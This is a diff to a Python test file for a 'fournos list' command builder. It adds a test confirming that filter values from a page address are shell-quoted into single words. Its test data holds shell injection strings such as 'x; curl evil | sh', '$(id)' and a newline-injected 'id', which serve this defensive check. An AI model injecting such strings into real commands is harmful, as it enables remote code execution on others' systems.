@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Collection
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
@@ -122,6 +123,16 @@ def test_the_command_lists_the_same() -> None:
     found = filters.read({"phase": "Failed", "owner": "ann", "label": "a=b"})
     assert found.command == "fournos list --all-time --phase Failed --owner ann -l a=b"
     assert filters.read({"text": "x"}).command == ""
+
+
+@pytest.mark.parametrize("value", ["x; curl evil | sh", "$(id)", "`id`", "a'b", "x\nid", "--help", "a b"])
+def test_what_an_address_holds_is_one_word_of_the_command(value: str) -> None:
+    label = "a=" + "".join(character for character in value if character not in " \n()")  # no label has those
+    found = filters.read({"owner": value, "cluster": value, "label": label})
+    options = ["--owner", value, "--cluster", value, "-l", label]
+    assert shlex.split(found.command) == ["fournos", "list", "--all-time", *options]
+    lexer = shlex.shlex(found.command, posix=True, punctuation_chars=True)
+    assert not {";", "|", "&", "(", ")"} & set(lexer), "nothing that a shell would obey"
 
 
 def test_an_address_of_a_page_that_is_none() -> None:
